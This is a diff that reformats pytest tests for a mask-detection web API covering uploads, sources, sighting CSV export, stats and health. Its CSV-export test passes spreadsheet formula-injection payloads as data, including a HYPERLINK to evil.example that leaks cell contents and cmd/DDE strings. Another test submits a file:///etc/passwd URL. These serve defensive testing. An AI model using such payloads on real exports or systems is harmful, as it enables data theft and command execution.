@@ -5,7 +5,7 @@ from __future__ import annotations
 import base64
 import csv
 import io
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 
 import numpy as np
 import pytest
@@ -17,7 +17,9 @@ from ..conftest import encode
 
 
 def upload(client, data: bytes, name: str = "photo.jpg", query: str = ""):
-    return client.post(f"/api/images{query}", data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")
+    return client.post(
+        f"/api/images{query}", data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data"
+    )
 
 
 def assert_error(response, status: int, code: str):
@@ -28,6 +30,7 @@ def assert_error(response, status: int, code: str):
 
 
 # --- images --------------------------------------------------------------------------------------
+
 
 def test_an_image_gives_faces_and_one_sighting_per_face(client, face_detector, astronaut, grace_hopper):
     frame = np.zeros((600, 1024, 3), np.uint8)
@@ -58,24 +61,38 @@ def test_an_image_is_recorded_under_the_given_source(client, astronaut):
 
 
 def test_a_source_id_must_name_a_source_of_the_right_kind(client, astronaut):
-    camera = client.post("/api/sources", json={"kind": "camera", "name": "gate", "url": "rtsp://127.0.0.1:9/x"}).get_json()
+    camera = client.post(
+        "/api/sources", json={"kind": "camera", "name": "gate", "url": "rtsp://127.0.0.1:9/x"}
+    ).get_json()
     image = client.post("/api/sources", json={"kind": "image", "name": "lobby"}).get_json()
     assert_error(upload(client, encode(astronaut), query=f"?source_id={camera['id']}"), 400, "wrong_source_kind")
-    video = client.post(f"/api/videos?source_id={image['id']}", data={"file": (io.BytesIO(b"\0" * 64), "a.mp4")},
-                        content_type="multipart/form-data")
+    video = client.post(
+        f"/api/videos?source_id={image['id']}",
+        data={"file": (io.BytesIO(b"\0" * 64), "a.mp4")},
+        content_type="multipart/form-data",
+    )
     assert_error(video, 400, "wrong_source_kind")
     assert_error(upload(client, encode(astronaut), query="?source_id=true"), 400, "invalid_request")
-    for route in ("/api/sightings", "/api/sightings.csv", "/api/stats/daily", "/api/stats/hourly", "/api/stats/summary"):
+    for route in (
+        "/api/sightings",
+        "/api/sightings.csv",
+        "/api/stats/daily",
+        "/api/stats/hourly",
+        "/api/stats/summary",
+    ):
         assert_error(client.get(f"{route}?source_id=999999"), 404, "not_found")
         assert client.get(f"{route}?source_id={camera['id']}").status_code == 200
     assert client.get("/api/sightings").get_json()["total"] == 0  # nothing was counted under the camera
 
 
-@pytest.mark.parametrize("data, name, status, code", [
-    (b"", "empty.jpg", 400, "empty"),
-    (b"%PDF-1.4 not a picture at all", "photo.jpg", 415, "unsupported_type"),
-    (b"GIF89a" + bytes(100), "anim.gif", 415, "unsupported_type"),
-])
+@pytest.mark.parametrize(
+    "data, name, status, code",
+    [
+        (b"", "empty.jpg", 400, "empty"),
+        (b"%PDF-1.4 not a picture at all", "photo.jpg", 415, "unsupported_type"),
+        (b"GIF89a" + bytes(100), "anim.gif", 415, "unsupported_type"),
+    ],
+)
 def test_bad_uploads_get_a_clear_error(client, data, name, status, code):
     assert_error(upload(client, data, name), status, code)
 
@@ -98,8 +115,11 @@ def test_a_missing_file_field_is_400(client):
 
 # --- sources -------------------------------------------------------------------------------------
 
+
 def test_sources_crud_never_returns_a_camera_url(client):
-    created = client.post("/api/sources", json={"kind": "camera", "name": "gate", "url": "rtsp://admin:secret@10.0.0.5/live"})
+    created = client.post(
+        "/api/sources", json={"kind": "camera", "name": "gate", "url": "rtsp://admin:secret@10.0.0.5/live"}
+    )
     assert created.status_code == 201
     camera = created.get_json()
     assert camera["has_url"] is True and "url" not in camera
@@ -112,29 +132,40 @@ def test_sources_crud_never_returns_a_camera_url(client):
     assert_error(client.delete(f"/api/sources/{camera['id']}"), 404, "not_found")
 
 
-@pytest.mark.parametrize("body", [
-    {"kind": "camera", "name": "gate"},                                   # a camera needs a URL
-    {"kind": "camera", "name": "gate", "url": "file:///etc/passwd"},
-    {"kind": "webcam", "name": "desk", "url": "rtsp://x"},                # only cameras have one
-    {"kind": "satellite", "name": "x"},
-    {"kind": "image", "name": ""},
-])
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"kind": "camera", "name": "gate"},  # a camera needs a URL
+        {"kind": "camera", "name": "gate", "url": "file:///etc/passwd"},
+        {"kind": "webcam", "name": "desk", "url": "rtsp://x"},  # only cameras have one
+        {"kind": "satellite", "name": "x"},
+        {"kind": "image", "name": ""},
+    ],
+)
 def test_invalid_sources_are_400(client, body):
     assert_error(client.post("/api/sources", json=body), 400, "invalid_request")
 
 
 # --- sightings, CSV and stats (rows written through the store) -----------------------------------
 
+
 @pytest.fixture
 def seeded(app):
     """Sightings of two sources on 2026-03-01/02 UTC; returns the sources' ids."""
     from maskwatch.store import queries
+
     from .test_store import person
 
     with app.app_context():
         door, hall = queries.create_source("webcam", "door"), queries.create_source("camera", "hall")
-        queries.add_sightings(door.id, [person("2026-03-01T22:30:00", "mask"), person("2026-03-01T23:30:00", "no_mask"),
-                                        person("2026-03-02T12:00:00", "incorrect")])
+        queries.add_sightings(
+            door.id,
+            [
+                person("2026-03-01T22:30:00", "mask"),
+                person("2026-03-01T23:30:00", "no_mask"),
+                person("2026-03-02T12:00:00", "incorrect"),
+            ],
+        )
         queries.add_sightings(hall.id, [person(f"2026-03-02T0{i}:00:00", "mask") for i in range(5)])
         return door.id, hall.id
 
@@ -154,14 +185,26 @@ def test_sightings_csv_export(client, seeded):
     assert response.status_code == 200 and response.mimetype == "text/csv"
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
     assert [(r["source_name"], r["verdict"], r["seen_at"]) for r in rows] == [
-        ("door", "mask", "2026-03-01T22:30:00.000Z"), ("door", "no_mask", "2026-03-01T23:30:00.000Z"),
-        ("door", "incorrect", "2026-03-02T12:00:00.000Z")]
+        ("door", "mask", "2026-03-01T22:30:00.000Z"),
+        ("door", "no_mask", "2026-03-01T23:30:00.000Z"),
+        ("door", "incorrect", "2026-03-02T12:00:00.000Z"),
+    ]
 
 
-@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
-                                  "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
 def test_the_csv_export_never_hands_a_spreadsheet_a_formula(app, client, name):
     from maskwatch.store import queries
+
     from .test_store import person
 
     with app.app_context():
@@ -180,7 +223,9 @@ def test_daily_stats_in_the_callers_time_zone(client, seeded):
     paris = client.get(f"/api/stats/daily?{query}&tz=Europe/Paris").get_json()
     assert [(d["date"], d["total"]) for d in utc["days"]] == [("2026-03-01", 2), ("2026-03-02", 1)]
     assert [(d["date"], d["mask"], d["no_mask"], d["incorrect"]) for d in paris["days"]] == [
-        ("2026-03-01", 1, 0, 0), ("2026-03-02", 0, 1, 1)]
+        ("2026-03-01", 1, 0, 0),
+        ("2026-03-02", 0, 1, 1),
+    ]
     assert paris["tz"] == "Europe/Paris"
 
 
@@ -197,34 +242,48 @@ def test_hourly_stats_and_summary(client, seeded):
 
 def test_stats_defaults_cover_today(client, astronaut):
     upload(client, encode(astronaut))
-    today = datetime.now(timezone.utc).date()
+    today = datetime.now(UTC).date()
     days = client.get("/api/stats/daily").get_json()["days"]
     assert [d["date"] for d in days] == [(today - timedelta(days=6 - i)).isoformat() for i in range(7)]
     assert days[-1]["no_mask"] == 1
 
 
-@pytest.mark.parametrize("query, code", [
-    ("tz=Mars/Olympus", "invalid_request"),
-    ("start=2026-03-05&end=2026-03-01", "invalid_request"),
-    ("start=yesterday", "invalid_request"),
-    ("start=2026-01-01&end=2026-03-01", "range_too_long"),
-])
+@pytest.mark.parametrize(
+    "query, code",
+    [
+        ("tz=Mars/Olympus", "invalid_request"),
+        ("start=2026-03-05&end=2026-03-01", "invalid_request"),
+        ("start=yesterday", "invalid_request"),
+        ("start=2026-01-01&end=2026-03-01", "range_too_long"),
+    ],
+)
 def test_bad_stats_queries_are_400(client, query, code):
     assert_error(client.get(f"/api/stats/hourly?{query}"), 400, code)
 
 
 # --- health, errors, OpenAPI ---------------------------------------------------------------------
 
+
 def test_health(client):
     body = client.get("/api/health").get_json()
-    assert body == {"status": "ok", "reasons": [], "database": True, "model_loaded": True, "version": "0.1.0",
-                    "sightings_waiting": 0, "sightings_dropped": 0, "detector": "mtcnn",
-                    "profiles": {"picture": {"min_face_size": 20, "upscale_below": 1024, "max_side": None},
-                                 "stream": {"min_face_size": 40, "upscale_below": None, "max_side": None}}}
+    assert body == {
+        "status": "ok",
+        "reasons": [],
+        "database": True,
+        "model_loaded": True,
+        "version": "0.1.0",
+        "sightings_waiting": 0,
+        "sightings_dropped": 0,
+        "detector": "mtcnn",
+        "profiles": {
+            "picture": {"min_face_size": 20, "upscale_below": 1024, "max_side": None},
+            "stream": {"min_face_size": 40, "upscale_below": None, "max_side": None},
+        },
+    }
 
 
 def test_health_says_the_model_is_not_loaded_until_a_lazy_worker_uses_it(make_app, astronaut):
-    from maskwatch.detector_service import DetectorService, EXTENSION_KEY
+    from maskwatch.detector_service import EXTENSION_KEY, DetectorService
 
     app = make_app()
     service = app.extensions[EXTENSION_KEY]
@@ -258,7 +317,9 @@ def test_unknown_routes_and_methods_are_json_errors(client):
 def test_openapi_document_matches_the_routes(app, client):
     spec = client.get("/api/openapi.json").get_json()
     assert spec["openapi"].startswith("3.")
-    documented = {(path, method.upper()) for path, ops in spec["paths"].items() for method in ops if method != "parameters"}
+    documented = {
+        (path, method.upper()) for path, ops in spec["paths"].items() for method in ops if method != "parameters"
+    }
     routed = set()
     for rule in app.url_map.iter_rules():
         if rule.rule.startswith("/api/") and rule.endpoint != "api-docs.openapi_json":
